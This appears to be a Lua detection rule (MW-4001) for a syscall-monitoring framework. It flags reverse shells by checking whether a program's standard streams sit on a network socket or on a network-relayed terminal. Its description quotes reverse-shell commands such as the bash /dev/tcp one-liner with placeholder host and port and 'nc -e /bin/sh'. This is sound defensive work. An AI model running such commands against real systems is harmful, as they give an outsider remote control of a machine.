local from_stdio

-- A program started with its standard streams on a network connection (a reverse or bind shell),
-- or a shell on a terminal that a network-connected parent relays.
local function new_proc() return { socks = {}, std = {} } end
local id_of = mw.identity_key

-- Is the program a shell: its name (path, argv[0], the executed file) or its identity.
local function shell_name(event)
  local a, prog = event.args, event.args.program
  local names = { a.pathname or event.process.exe, type(a.argv) == "table" and a.argv[1] or false,
                  type(prog) == "table" and prog.path or false }
  for i = 1, 3 do
    local n = names[i]
    if type(n) == "string" then
      local b = mw.basename(n) or ""
      b = b:gsub("^%-", "")   -- a login shell's argv[0] is "-bash"
      if params.shells[b] then return n end
    end
  end
  if type(prog) == "table" and mw.identities(params.shell_files)[id_of(prog.dev, prog.ino) or ""] then return prog.path end
  return nil
end

-- The remote end of a stdio entry that is a connected inet socket, else nil.
local function stdio_remote(s)
  local k = type(s) == "table" and s.socket or nil
  if type(k) ~= "table" or (k.family ~= "AF_INET" and k.family ~= "AF_INET6") then return nil end
  if type(k.remote) ~= "table" then return nil end
  return { family = k.family, addr = k.remote.addr, port = k.remote.port }
end

local function is_tty(s)
  return type(s) == "table" and type(s.path) == "string" and s.path:find("^/dev/pts/") ~= nil
end

local function is_inet(addr)
  return type(addr) == "table" and (addr.family == "AF_INET" or addr.family == "AF_INET6")
end

-- The process itself, or its parent or grandparent: who holds a network connection, from the
-- connect/accept records (a child inherits its parent's). Nobody, when one of them is trusted:
-- a session of sshd relays a terminal to a network peer by design. Returns the record and who.
local function relay_of(event, procs)
  local chain = { { pid = event.process.pid } }
  for _, a in ipairs(mw.ancestors(event.process.pid, 2)) do chain[#chain + 1] = a end
  local trusted = mw.identities(params.trusted)
  for _, p in ipairs(chain) do
    if trusted[id_of(p.exe_dev, p.exe_ino) or ""] then return nil end
  end
  for _, p in ipairs(chain) do
    local r = procs:get(p.pid)
    if r and r.net then return r.net, p end
  end
  return nil
end

from_stdio = function(event, stdio, procs)
  local a = event.args
  local prog = type(a.program) == "table" and a.program or {}
  if mw.identities(params.trusted)[id_of(prog.dev, prog.ino) or ""] then return end
  local rin, rout = stdio_remote(stdio[1]), stdio_remote(stdio[2])
  local path = prog.path or a.pathname or event.process.exe or "?"
  if rin and rout then
    local shell = shell_name(event)
    report{
      message = string.format("%s executed %s%s with stdin/stdout on a socket to %s:%s", mw.who(event), path,
                              shell and "" or " (not a known shell)", tostring(rout.addr), tostring(rout.port)),
      data = { shell = shell or path, program = a.program, argv = a.argv, remote = rout,
               stderr_on_socket = stdio_remote(stdio[3]) ~= nil, pid = event.process.pid, ppid = event.process.ppid,
               uid = event.process.uid, comm = event.process.comm },
    }
    return
  end
  if is_tty(stdio[1]) and is_tty(stdio[2]) then
    local shell = shell_name(event)
    if not shell then return end
    local net, holder = relay_of(event, procs)
    if not net then return end
    report{
      severity = "medium",
      message = string.format("%s executed %s on a terminal relayed by pid %d, which holds a connection to %s:%s",
                              mw.who(event), path, holder.pid, tostring(net.addr), tostring(net.port)),
      data = { shell = shell, program = a.program, argv = a.argv, tty = stdio[1].path, relay_pid = holder.pid,
               relay_comm = holder.comm, remote = net, pid = event.process.pid, ppid = event.process.ppid,
               uid = event.process.uid, comm = event.process.comm },
    }
  end
end

return {
  id = "MW-4001",
  version = "1.0.0",
  name = "Reverse shell: standard streams on a network socket",
  description = [[
A program was started with stdin and stdout on a connected TCP/UDP socket: the shape of
`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`, socat, and the Python/Perl one-liners,
whatever the program is called (a renamed copy of a shell is still a program on a socket).
Live, what descriptors 0-2 refer to is resolved in the kernel at exec (event.args.stdio), so
no bookkeeping can be lost: F_DUPFD, descriptors received over SCM_RIGHTS, accept without an
address, bash's saved copies around /dev/tcp all end in the same place. A shell (by name,
argv[0], the executed file, or the identity of an installed shell) whose stdin is a terminal
while its parent or grandparent holds a network connection is a pty relay (socat pty,
python pty.spawn behind a socket): medium. Replayed events without stdio fall back to following
socket, connect/accept and dup calls. Trusted by identity, not name: sshd, telnetd, inetd,
dropbear, mosh (parameter `trusted`: executable paths). Known false positives: other
inetd-style services that run a program with the connection as stdio (review them; add their
executables to `trusted`).]],
  severity = "high",
  tags = { "process", "network", "execution", "reverse-shell" },
  mitre = { tactic = "execution", technique = "T1059.004" },
  events = { "socket", "connect", "accept", "accept4", "dup", "dup2", "dup3", "fcntl", "execve", "execveat",
             "process_fork", "process_exit" },
  -- socket: inet only; fcntl: only the duplicating commands (F_DUPFD, F_DUPFD_CLOEXEC) leave the kernel.
  filter = { args = { domain = { 2, 10 }, cmd = { 0, 1030 } } },
  params = {
    -- Program names (basename of the path, argv[0], the executed file) that are shells.
    shells = mw.set{ "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish", "csh", "tcsh", "pwsh",
                     "rbash", "yash", "posh", "elvish", "nu", "xonsh" },
    -- Installed shells, known by the identity of their file whatever a link or copy is called.
    shell_files = mw.set{ "/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ksh", "/bin/mksh", "/bin/busybox",
                          "/usr/bin/bash", "/usr/bin/dash", "/usr/bin/zsh", "/usr/bin/ksh", "/usr/bin/fish",
                          "/usr/bin/tcsh", "/usr/bin/csh", "/usr/bin/busybox", "/usr/bin/pwsh" },
    -- Programs whose children legitimately get a connection as stdio or a network-relayed
    -- terminal, trusted by the identity of their file (not by name).
    trusted = mw.set{ "/usr/sbin/sshd", "/usr/bin/sshd", "/usr/sbin/in.telnetd", "/usr/sbin/telnetd",
                      "/usr/sbin/xinetd", "/usr/sbin/inetd", "/usr/sbin/dropbear", "/usr/lib/openssh/sshd-session",
                      "/usr/lib/openssh/sshd-auth", "/usr/sbin/mosh-server", "/usr/bin/mosh-server" },
  },

  on_event = function(event, state)
    local procs = mw.per_process(state, "procs")
    if procs:track(event) then return end   -- fork copies the descriptor state, exit drops it
    local pid, name, a = event.process.pid, event.name, event.args
    if event.ret < 0 and not (name == "connect" and event.ret == -115) then return end   -- EINPROGRESS still connects

    if name == "socket" then
      procs:get(pid, new_proc).socks[event.ret] = { remote = nil }
    elseif name == "connect" then
      local p = procs:get(pid)
      if p and p.socks[a.sockfd] and is_inet(a.addr) then p.socks[a.sockfd].remote = a.addr end
      if is_inet(a.addr) then procs:get(pid, new_proc).net = a.addr end
    elseif name == "accept" or name == "accept4" then
      if is_inet(a.addr) then
        local p = procs:get(pid, new_proc)
        p.socks[event.ret] = { remote = a.addr }
        p.net = a.addr
      end
    elseif name == "dup" or name == "dup2" or name == "dup3" or name == "fcntl" then
      local p = procs:get(pid)
      if not p then return end
      local newfd = (name == "dup" or name == "fcntl") and event.ret or a.newfd
      local s = p.socks[a.oldfd or a.fd]
      if newfd >= 0 and newfd <= 2 then p.std[newfd] = (s and s.remote) and s or nil end
      if s then p.socks[newfd] = s end
    elseif name == "execve" or name == "execveat" then
      if event.ret ~= 0 then return end
      local stdio = a.stdio
      if type(stdio) == "table" then return from_stdio(event, stdio, procs) end
      local p = procs:get(pid)
      if not p then return end
      local sin, sout = p.std[0], p.std[1]
      if not (sin and sout) then return end
      local path = a.pathname or event.process.exe or ""
      if not shell_name(event) then return end
      local r = sout.remote
      report{
        message = string.format("%s executed %s with stdin/stdout on a socket to %s:%s", mw.who(event), path,
                                tostring(r.addr), tostring(r.port)),
        data = { shell = path, argv = a.argv, remote = r, stderr_on_socket = p.std[2] ~= nil,
                 pid = pid, ppid = event.process.ppid, uid = event.process.uid, comm = event.process.comm },
      }
    end
  end,
}
